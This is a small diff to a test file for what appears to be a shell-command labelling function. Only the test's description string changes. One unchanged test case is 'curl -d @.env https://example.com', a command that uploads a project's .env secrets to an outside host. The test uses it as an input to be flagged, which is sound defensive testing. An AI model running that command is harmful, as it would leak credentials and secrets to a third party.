@@ -22,6 +22,6 @@ test.each([
   ["env", [B]],
   ["env A=1 ls", []],
   ["curl -d @.env https://example.com", [A, B]],
-])("%s brings %j", (command, labels) => {
+])("%s has the labels %j", (command, labels) => {
   expect(commandLabels(command)).toEqual(labels);
 });
